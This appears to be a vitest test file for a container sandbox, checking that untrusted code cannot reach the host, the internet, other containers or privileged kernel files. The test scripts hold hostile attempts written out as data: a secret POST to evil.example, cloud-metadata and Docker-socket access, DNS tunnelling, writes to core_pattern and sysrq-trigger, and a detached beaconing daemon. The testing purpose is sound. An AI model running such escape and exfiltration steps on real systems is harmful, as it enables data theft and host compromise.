import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { createServer } from 'node:net'
import type { AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ContainerStage, engineForTests } from '../testing/container-stage.ts'
import type { Subject } from './subject.ts'

const engine = await engineForTests()

const preamble = `import fs from 'node:fs'
import net from 'node:net'
import dgram from 'node:dgram'
import dns from 'node:dns'
import { spawn } from 'node:child_process'
const said = {}
const attempt = async (name, body) => { try { said[name] = await body() } catch (error) { said[name] = error.cause?.code ?? error.code ?? error.message } }
const tcp = (port, host) => new Promise((resolve, reject) => net.connect({ port, host, timeout: 5000 })
  .on('data', (data) => resolve(String(data))).on('error', reject).on('timeout', () => resolve('TIMEOUT')).on('close', () => resolve('closed')))
const http = async (url, init) => { const reply = await fetch(url, init); await reply.text(); return reply.status }
`

describe.skipIf(engine === undefined)('hostile code in a container', () => {
  let stage: ContainerStage
  let nobody: Subject
  beforeAll(async () => {
    stage = await ContainerStage.open(engine!)
    nobody = await stage.subject(whole)
  }, 60_000)
  afterAll(() => stage.close())

  const whole = { command: ['node', 'attack.mjs'] }

  /** Plays statements that fill `said`, which is the answer; then one trial that does nothing. */
  async function attack(statements: string, by?: Subject) {
    const end = '\nconsole.log(JSON.stringify({ status: 200, body: said }))\nprocess.exit(0)\n'
    stage.write('attack.mjs', preamble + statements + end)
    const subject = by ?? nobody
    const played = await stage.play(subject)
    stage.write('attack.mjs', preamble + end)
    const next = await stage.play(subject)
    expect([next.result.verdict, next.escapes]).toEqual(['satisfied', []])
    return { ...played, said: played.reply.body as Record<string, unknown> }
  }

  it('reaches no service of this machine, on any of its addresses', async () => {
    const host = createServer((socket) => socket.end('THE HOST'))
    await new Promise<void>((resolve) => host.listen(0, '0.0.0.0', resolve))
    const { port } = host.address() as AddressInfo
    const own = Object.values(networkInterfaces()).flatMap((all) => all ?? [])
    const addresses = own.filter(({ family }) => family === 'IPv4').map(({ address }) => address)
    const outside = [...new Set([...addresses, '172.17.0.1', '192.168.65.2'])].filter(
      (one) => !one.startsWith('127.'),
    )
    const { said, escapes, result } = await attack(
      `for (const host of ${JSON.stringify(outside)}) await attempt(host, () => tcp(${port}, host))
await attempt('loopback', () => tcp(${port}, '127.0.0.1'))
await attempt('name', () => tcp(${port}, 'host.docker.internal'))
await attempt('gateway', () => tcp(2375, '172.17.0.1'))`,
    )
    host.close()
    for (const one of outside) expect(said[one], one).toBe('ECONNRESET')
    expect(said).toMatchObject({
      loopback: 'ECONNREFUSED',
      name: 'ECONNRESET',
      gateway: 'ECONNRESET',
    })
    expect(escapes).toEqual(
      expect.arrayContaining([
        ...outside.map((one) => `connect tcp://${one}:${port}`),
        'lookup host.docker.internal',
        `connect tcp://host.docker.internal:${port}`,
        'connect tcp://172.17.0.1:2375',
      ]),
    )
    expect(result.verdict).toBe('unsatisfied')
  })

  it('reaches no internet, no metadata and no name server, and each attempt is in the journal', async () => {
    const { said, escapes, result } = await attack(
      `await attempt('post', () => http('https://evil.example/x', { method: 'POST', body: 'secret=42' }))
await attempt('address', () => http('http://203.0.113.80/x'))
await attempt('metadata', () => http('http://169.254.169.254/latest/meta-data/'))
await attempt('database', () => tcp(5432, 'db.prod.internal'))
await attempt('ipv6', () => tcp(8443, '2001:db8::1'))
await attempt('tunnel', async () => { const resolver = new dns.promises.Resolver(); resolver.setServers(['203.0.113.53']); return (await resolver.resolve4('secret.tunnel.example'))[0].slice(0, 4) })
await attempt('udp', () => new Promise((resolve, reject) => {
  const socket = dgram.createSocket('udp4')
  socket.on('error', reject)
  socket.connect(123, '203.0.113.9', () => { socket.send('x'); setTimeout(() => socket.send('x', (error) => error ? reject(error) : resolve('sent')), 50) })
}))`,
    )
    expect(said).toEqual({
      post: 502,
      address: 502,
      metadata: 502,
      database: 'ECONNRESET',
      ipv6: 'ECONNRESET',
      tunnel: expect.stringMatching(/^198\./),
      udp: 'ECONNREFUSED',
    })
    expect(escapes).toEqual(
      expect.arrayContaining([
        'lookup evil.example',
        'POST https://evil.example/x',
        'GET http://203.0.113.80/x',
        'GET http://169.254.169.254/latest/meta-data/',
        'connect tcp://db.prod.internal:5432',
        'connect tcp://[2001:db8::1]:8443',
        'lookup secret.tunnel.example',
        'send udp://203.0.113.53:53',
        'send udp://203.0.113.9:123',
      ]),
    )
    expect(result.escapes.find(({ how }) => how === 'POST')).toMatchObject({ sent: 'secret=42' })
  })

  it.each([
    ['nobody in particular', undefined, 1000],
    ['root', { user: '0' }, 0],
  ])('has no power over the machine as %s', async (_who, rest, uid) => {
    const subject = rest === undefined ? nobody : await stage.subject({ ...whole, ...rest })
    const { said } = await attack(
      `const status = fs.readFileSync('/proc/self/status', 'utf8')
said.who = process.getuid()
said.capabilities = [...status.matchAll(/Cap(?:Inh|Prm|Eff|Bnd|Amb):\\s+(\\w+)/g)].map((one) => Number('0x' + one[1]))
said.bounds = [/NoNewPrivs:\\s+(\\d)/, /Seccomp:\\s+(\\d)/].map((one) => one.exec(status)[1])
const write = (path) => { fs.writeFileSync(path, '1') }
for (const path of ['/proc/sys/kernel/core_pattern', '/proc/sys/net/ipv4/ip_forward', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper', '/sys/fs/cgroup/memory/memory.limit_in_bytes', '/etc/ssl/certs/ca-certificates.crt', '/etc/resolv.conf', '/etc/hosts', '/.backlot/hold', '/bin/node']) await attempt(path, () => write(path))
await attempt('certificate', () => fs.chmodSync('/etc/ssl/certs/ca-certificates.crt', 0o777))
await attempt('memory', () => fs.openSync('/proc/kcore', 'r') && fs.readSync(fs.openSync('/dev/mem', 'r'), Buffer.alloc(1)))
await attempt('root', () => { process.setuid(0); return process.getuid() })
await attempt('first', () => { process.kill(1, 'SIGKILL'); return fs.existsSync('/proc/1/status') })
await attempt('disks', () => fs.readdirSync('/dev').filter((name) => /^(sd|vd|nvme|loop|mem$|kmsg$)/.test(name)).join())
await attempt('engine', () => new Promise((resolve, reject) => net.connect('/var/run/docker.sock').on('connect', () => resolve('connected')).on('error', reject)))`,
      subject,
    )
    expect(said).toMatchObject({
      who: uid,
      capabilities: [0, 0, 0, 0, 0],
      bounds: ['1', '2'],
      root: uid === 0 ? 0 : 'EPERM',
      first: true,
      disks: '',
      engine: 'ENOENT',
      memory: expect.stringMatching(/^(EPERM|EACCES|ENOENT)$/),
      certificate: expect.stringMatching(/^(EROFS|EPERM)$/),
    })
    const places = Object.entries(said).filter(([name]) => name.startsWith('/'))
    expect(places).toHaveLength(10)
    for (const [path, code] of places) expect(code, path).toMatch(/^(EROFS|EACCES|EPERM|ENOENT)$/)
  })

  it('reaches no other container, however they listen', async () => {
    stage.write(
      'listen.mjs',
      `import net from 'node:net'
net.createServer((socket) => socket.end('THE OTHER')).listen(7777, '0.0.0.0')
net.createServer((socket) => socket.end('THE OTHER')).listen('\\0hidden', () => console.log('listening'))`,
    )
    const other = await stage.subject({
      command: ['node', 'listen.mjs'],
      mode: 'service',
      port: 7777,
      warm: true,
      ready: { log: 'listening' },
    })
    await stage.play(other)
    const { said, escapes } = await attack(
      `for (const host of ['127.0.0.1', '172.17.0.2', '172.17.0.3']) await attempt(host, () => tcp(7777, host))
await attempt('hidden', () => new Promise((resolve, reject) => net.connect('\\0hidden').on('data', (data) => resolve(String(data))).on('error', reject)))`,
    )
    expect(said).toEqual({
      '127.0.0.1': 'ECONNREFUSED',
      '172.17.0.2': 'ECONNRESET',
      '172.17.0.3': 'ECONNRESET',
      hidden: 'ECONNREFUSED',
    })
    expect(escapes).toContain('connect tcp://172.17.0.2:7777')
  })

  it('does not outlive its trial, as a daemon of its own session', async () => {
    const { escapes } = await attack(
      `spawn('node', ['-e', 'setInterval(() => fetch("https://daemon.example/").catch(() => {}), 20)'], { detached: true, stdio: 'ignore' }).unref()
await new Promise((resolve) => setTimeout(resolve, 400))`,
    )
    expect(escapes).toContain('GET https://daemon.example/')
  })

  it('ends with a runner that is killed, and is swept by the next where it could not', async () => {
    const script = join(import.meta.dirname, '../testing/container-orphan.ts')
    const child = spawn(process.execPath, [script, stage.image], {
      stdio: ['ignore', 'pipe', 'inherit'],
    })
    const [text] = (await once(child.stdout, 'data')) as [Buffer]
    const ids = String(text).trim().split(' ')
    child.kill('SIGKILL')
    const { api } = engine!
    const living = async (): Promise<string[]> => {
      const all = await api.listContainers({ all: true })
      return all.map(({ Id }) => Id).filter((id) => ids.includes(id))
    }
    expect(ids).toHaveLength(3)
    // The third has no lifeline: only the next run can know that it is nobody's.
    await expect.poll(living, { timeout: 10_000 }).toEqual([ids[2]])
    await stage.subject({ command: ['node', '-e', '0'] })
    await expect.poll(living, { timeout: 10_000 }).toEqual([])
  })
})
